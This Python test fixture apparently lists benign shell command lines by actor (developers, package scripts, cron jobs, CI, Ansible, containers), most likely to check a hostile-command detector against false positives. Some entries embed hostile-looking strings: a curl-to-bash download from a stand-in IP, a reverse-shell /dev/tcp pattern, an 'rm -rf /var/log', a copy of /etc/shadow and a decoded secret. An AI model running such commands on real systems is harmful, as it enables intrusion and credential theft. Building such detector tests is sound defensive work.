"""What developers, packages, jobs and servers run; ``$ `` begins text that ``sh -c`` was given."""

from __future__ import annotations

from tests.sections.actors import (
    ANSIBLE,
    BUILDER,
    DATABASE,
    DEVELOPER,
    DOCKER,
    GIT,
    JOBS,
    JOBS_WWW,
    MONITOR,
    PACKAGES,
    PHP,
    SYSTEM,
    Actor,
)

BLOCKS: tuple[tuple[Actor, str], ...] = (
    (DEVELOPER, """
git status
git pull --rebase
git commit -m 'docs: explain why curl http://203.0.113.5/x | bash is bad'
git log --grep 'rm -rf /var/log'
grep -rn 'base64 -d' scripts/
rg 'bash -i >& /dev/tcp' docs/
vim deploy/cron.sh
code .
make -j4
./configure --prefix=/home/dev/opt
cmake -S . -B build
gcc -O2 -o hello hello.c
./hello
cargo build --release
/home/dev/.cargo/bin/rustc --version
npm ci
npx eslint src
node server.js
/home/dev/.nvm/versions/node/v20.1.0/bin/node build.js
python3 -m venv .venv
.venv/bin/pip install -r requirements.txt
.venv/bin/python -m pytest -q
/home/dev/src/shop/.venv/bin/python manage.py migrate
pip install --user httpie
/home/dev/.local/bin/http GET https://api.example.com/
/home/dev/.local/bin/poetry install
bundle exec rake test
go test ./...
/tmp/go-build3411/b001/exe/main
mvn -q package
gradle build
java -jar target/shop.jar
docker build -t shop:dev .
docker run --rm -it -v /home/dev/src/shop:/app shop:dev sh
kubectl get pods -A
kubectl logs deploy/shop
kubectl port-forward svc/shop 8080:80
helm upgrade --install shop ./chart
terraform plan
aws s3 ls s3://shop-assets
ssh -N -L 9000:localhost:9000 staging
curl -X POST -H 'Content-Type: application/json' -d '{"a":1}' http://localhost:8080/orders
curl -s https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.1/install.sh
bash install.sh
sh ./scripts/setup.sh
bash -x scripts/release.sh
python3 /tmp/scratch.py
sh /tmp/try.sh
chmod +x /tmp/try.sh
/tmp/try.sh
openssl enc -aes-256-cbc -d -in secret.enc -out secret.txt
base64 -w0 logo.png
xxd -l 64 firmware.bin
tar xzf /tmp/src.tar.gz -C /tmp/src
touch -d '2 days ago' fixtures/old.txt
find . -name '*.pyc' -delete
find . -name id_rsa.pub
strace -f -o trace.txt ./hello
gdb --args ./hello
perl -pe 's/foo/bar/' notes.txt
awk '{print $2}' data.txt
unset HISTCONTROL
script -q session.log
"""),
    (DEVELOPER, """
$ echo 'export PATH=$HOME/.cargo/bin:$PATH' >> /home/dev/.bashrc
$ curl -sSf https://sh.rustup.rs | sh -s -- -y
$ kubectl get secret shop -o jsonpath='{.data.password}' | base64 -d
$ history | awk '{print $2}' | sort | uniq -c
$ ps aux | grep node | grep -v grep
$ cat package.json | python3 -m json.tool
$ curl -s https://api.example.com/items | python3 -c 'import sys,json; print(len(json.load(sys.stdin)))'
$ until nc -z localhost 5432; do sleep 1; done
$ timeout 1 bash -c '</dev/tcp/localhost/5432'
"""),
    (PACKAGES, """
/bin/sh /var/lib/dpkg/info/nginx-common.postinst configure 1.22.1-9
/bin/sh /var/lib/dpkg/info/rsyslog.prerm upgrade 8.2302.0-1
/usr/bin/deb-systemd-helper unmask nginx.service
/usr/bin/deb-systemd-helper enable nginx.service
/usr/bin/deb-systemd-invoke restart rsyslog.service
systemctl --quiet --system restart rsyslog.service
systemctl --quiet --system stop rsyslog.service
systemctl --system daemon-reload
dpkg-statoverride --update --add root root 4755 /usr/lib/dbus-1.0/dbus-daemon-launch-helper
chmod 4755 /usr/lib/openssh/ssh-keysign
chmod u+s /usr/lib/polkit-1/polkit-agent-helper-1
setcap cap_net_raw+ep /usr/bin/ping
setcap cap_setuid,cap_setgid=ep /usr/bin/newuidmap
adduser --system --group --home /var/lib/redis --no-create-home redis
useradd -r -g nginx -s /sbin/nologin nginx
usermod -d /var/lib/redis redis
getent passwd redis
getent group ssl-cert
id -u redis
chown redis:redis /var/lib/redis
touch /var/log/btmp
chmod 660 /var/log/btmp
chown root:utmp /var/log/wtmp
install -d -m 0755 /var/log/nginx
update-rc.d nginx defaults
invoke-rc.d cron restart
ldconfig
update-initramfs -u
/usr/sbin/mkinitramfs -o /boot/initrd.img-6.1.0-18-amd64.new 6.1.0-18-amd64
cp -pP /usr/bin/kmod /var/tmp/mkinitramfs_Xk2l9q/bin/kmod
/var/tmp/mkinitramfs_Xk2l9q/bin/busybox
depmod -a 6.1.0-18-amd64
run-parts --arg=6.1.0-18-amd64 /etc/kernel/postinst.d
update-grub
perl -w /usr/share/debconf/frontend /var/lib/dpkg/info/nginx.config configure
/var/cache/debconf/tmp.ci/libc6.config.4fGh2 configure 2.36
dpkg-deb --fsys-tarfile /var/cache/apt/archives/nginx_1.22.1-9_amd64.deb
tar -x -f - --warning=no-timestamp
rm -rf -- /tmp/apt-dpkg-install-8Kj2Ls
rm -f /etc/audit/audit.rules.dpkg-new
ln -s /lib/systemd/system/nginx.service /etc/systemd/system/multi-user.target.wants/nginx.service
chattr -i /etc/resolv.conf
pam-auth-update --package
cp -a /etc/pam.d/common-auth /var/lib/pam/
sed -i 's/^weekly/daily/' /etc/logrotate.conf
py3compile -p python3-yum
mandb -pq
systemd-sysusers nginx.conf
systemd-tmpfiles --create nginx.conf
dracut -f /boot/initramfs-5.14.img 5.14
/usr/bin/apt-key --quiet --readonly verify --status-fd 3 /tmp/apt.sig.aK2l9Q /tmp/apt.data.x8K
gpgv --homedir /tmp/apt-key-gpghome.Yq1 --keyring /etc/apt/trusted.gpg /tmp/apt.sig.aK2l9Q
"""),
    (JOBS, """
$ cd / && run-parts --report /etc/cron.hourly
$ test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
$ [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi
$ command -v debian-sa1 > /dev/null && debian-sa1 1 1
$ /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1
$ find /var/spool/app -mtime +7 -delete
$ /usr/bin/certbot -q renew --deploy-hook 'systemctl reload nginx'
$ cd /srv/app && flock -n /run/lock/sync.lock ./sync.sh
$ sleep $((RANDOM % 600)); /usr/bin/freshclam --quiet
$ rsync -a --delete /srv/ backup@10.20.0.5:/backup/web01/ > /dev/null 2>&1
$ /usr/bin/curl -fsS -m 10 --retry 5 https://checks.example.com/ping/backup > /dev/null
$ pgrep -x mydaemon > /dev/null || /opt/mydaemon/bin/start
$ date +%s > /run/lastrun
$ kill -HUP $(cat /run/rsyslogd.pid)
$ /usr/lib/rsyslog/rsyslog-rotate
/usr/sbin/logrotate /etc/logrotate.conf
gzip -9 /var/log/nginx/access.log.2
mv /var/log/auth.log.1 /var/log/auth.log.2
cp -p /etc/shadow shadow.bak
cmp -s shadow.bak /etc/shadow
cp -p /etc/passwd passwd.bak
/etc/cron.daily/dpkg
/etc/cron.daily/apt-compat
/usr/lib/apt/apt.systemd.daily update
touch -d @1773273600 /var/lib/apt/periodic/update-stamp
updatedb
/usr/sbin/ntpdate -u 10.20.0.1
/opt/backup/bin/restic backup /srv --tag nightly
borg create /srv/borg::nightly /etc /home
tar -czf /srv/backup/etc.tgz /etc
mysqldump --all-databases
pg_dumpall -f /srv/backup/all.sql
aide --check
chkrootkit -q
rkhunter --check --sk --rwo
find / -xdev -type f -perm -4000 -o -perm -2000
debsums -s
"""),
    (JOBS_WWW, """
$ /usr/bin/php /var/www/shop/artisan schedule:run >> /dev/null 2>&1
/usr/bin/php /var/www/shop/artisan schedule:run
$ cd /var/www/wordpress && /usr/bin/php wp-cron.php
$ /usr/bin/curl -s https://shop.example.com/cron.php > /dev/null
"""),
    (SYSTEM, """
/usr/lib/systemd/systemd-executor --deserialize 72
/usr/sbin/nginx -g 'daemon on; master_process on;'
/usr/sbin/sshd -D -R
/usr/sbin/rsyslogd -n -iNONE
/usr/sbin/auditctl -R /etc/audit/audit.rules
/sbin/augenrules --load
/usr/bin/unattended-upgrade
/usr/lib/update-notifier/apt-check --human-readable
run-parts --lsbsysinit /etc/update-motd.d
/bin/sh /etc/update-motd.d/00-header
uname -o
uname -r
uname -m
who -q
/bin/sh /etc/update-motd.d/50-motd-news
curl --connect-timeout 60 --max-time 60 -A 'curl/7.88' -o /tmp/tmp.motd1 https://motd.example.com/
cut -c 1-80
/usr/bin/snap run lxd.daemon
/snap/core20/2105/usr/bin/snapctl
/usr/lib/snapd/snap-confine
iptables -w -t nat -N DOCKER
iptables -w -t nat -F DOCKER
iptables-restore --noflush
ip6tables -w -t filter -C FORWARD -j DOCKER-USER
modprobe -va bridge br_netfilter
nft -f /etc/nftables.conf
e2scrub_all -C
fstrim --listed-in /etc/fstab:/proc/self/mountinfo
logger -t cloud-init hello
/usr/bin/python3 /usr/bin/cloud-init modules --mode=final
/usr/bin/dbus-daemon --system --address=systemd:
/usr/bin/gpgconf --list-dirs
sa1 1 1
/usr/lib/sysstat/sa2 -A
systemctl kill -s HUP rsyslog.service
systemd-tmpfiles --clean
mandb --quiet
/usr/sbin/e2fsck -p /dev/sda1
/usr/bin/mdatp health
/opt/microsoft/azuremonitoragent/bin/mdsd -A
"""),
    (PHP, """
$ /usr/sbin/sendmail -t -i
/usr/sbin/sendmail -t -i
$ convert '/var/www/shop/storage/in.png' -resize 200x200 '/var/www/shop/storage/out.png'
convert /var/www/shop/storage/in.png -resize 200x200 /var/www/shop/storage/out.png
$ which convert
$ stty -a | grep columns
$ git rev-parse --short HEAD
$ /usr/bin/wkhtmltopdf -q /var/www/shop/invoice.html /var/www/shop/invoice.pdf
$ nice -n 10 ffmpeg -i /var/www/shop/in.mov -vf scale=640:-1 /var/www/shop/out.mp4
$ unoconv -f pdf /var/www/shop/upload.docx
$ gs -q -dNOPAUSE -sDEVICE=png16m -sOutputFile=/var/www/shop/p.png /var/www/shop/in.pdf
$ php artisan queue:work --once
$ curl -s https://api.example.com/rates.json
$ hostname
$ df -k /var/www
"""),
    (DATABASE, """
$ test ! -f /srv/wal/0000000100000001 && cp pg_wal/0000000100000001 /srv/wal/0000000100000001
cp pg_wal/0000000100000001 /srv/wal/0000000100000001
$ pgbackrest --stanza=main archive-push pg_wal/0000000100000001
$ gzip < pg_wal/0000000100000002 > /srv/wal/0000000100000002.gz
"""),
    (MONITOR, """
$ /usr/lib/nagios/plugins/check_load -w 4 -c 8
/usr/lib/nagios/plugins/check_load -w 4 -c 8
/usr/lib/nagios/plugins/check_disk -w 10% -c 5% -p /
/usr/lib/nagios/plugins/check_users -w 5 -c 10
/usr/lib/nagios/plugins/check_procs -w 250 -c 400
/usr/bin/ps axwwo stat,uid,pid,ppid,vsz,rss,pcpu,etime,comm,args
/usr/bin/who -q
/usr/bin/uptime
df -P
ss -s
sudo /usr/lib/nagios/plugins/check_raid
curl -s http://127.0.0.1/server-status?auto
netstat -lnt
ping -n -c 5 10.20.0.1
python3 /usr/lib/check_mk_agent/plugins/mk_docker.py
"""),
    (BUILDER, """
sh -xe /tmp/jenkins7712930.sh
git fetch --tags --progress https://git.example.com/shop.git
/var/lib/jenkins/tools/maven/bin/mvn -B verify
/var/lib/jenkins/workspace/shop/.venv/bin/python -m pytest
/var/lib/jenkins/.cache/pip/selfcheck
docker build --pull -t registry.example.com/shop:412 .
docker push registry.example.com/shop:412
curl -sf -u ci:token --upload-file target/shop.jar https://nexus.example.com/repository/releases/shop.jar
scp target/shop.jar deploy@web01:/srv/app/
ssh deploy@web01 sudo systemctl restart shop
rm -rf target
npm run build
chmod +x gradlew
./gradlew build
tar czf dist.tgz dist
id -u
uname -m
"""),
    (ANSIBLE, """
$ echo ~ && sleep 0
$ ( umask 77 && mkdir -p "` echo /root/.ansible/tmp `" && mkdir "` echo /root/.ansible/tmp/ansible-tmp-1773.1 `" )
$ chmod u+x /root/.ansible/tmp/ansible-tmp-1773.1/ /root/.ansible/tmp/ansible-tmp-1773.1/AnsiballZ_setup.py && sleep 0
$ /usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1773.1/AnsiballZ_setup.py && sleep 0
/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1773.1/AnsiballZ_apt.py
$ rm -f -r /root/.ansible/tmp/ansible-tmp-1773.1/ > /dev/null 2>&1 && sleep 0
/usr/bin/lsb_release -a
uname -a
ip -4 route get 8.8.8.8
/usr/sbin/dmidecode -s system-uuid
getent passwd root
lspci
systemctl show nginx
/usr/bin/apt-get -y -o Dpkg::Options::=--force-confdef install nginx
useradd -m -s /bin/bash carol
usermod -G sudo -a carol
chown root:root /root/.ansible/tmp/ansible-tmp-1773.1/source
mv /root/.ansible/tmp/ansible-tmp-1773.1/source /etc/nginx/nginx.conf
/bin/sh -c 'systemctl daemon-reload'
"""),
    (DOCKER, """
runc --root /run/docker/runtime-runc/moby --log /run/containerd/log.json create --bundle /run/containerd/x shop
/memfd:runc_cloned:/proc/self/exe init
/bin/sh -c 'curl -f http://localhost:8080/health || exit 1'
curl -f http://localhost:8080/health
pg_isready -U shop
redis-cli ping
node /app/server.js
/docker-entrypoint.sh nginx -g 'daemon off;'
/usr/local/bin/docker-php-entrypoint php-fpm
tini -- /app/run
java -Xmx2g -jar /app/shop.jar
/pause
"""),
    (GIT, """
git-receive-pack /srv/git/shop.git
git unpack-objects --pack_header=2,3
hooks/post-receive
/bin/bash hooks/post-receive
git --work-tree=/var/www/shop checkout -f main
$ cd /var/www/shop && composer install --no-dev
.git/hooks/pre-commit
"""),
)  # fmt: skip
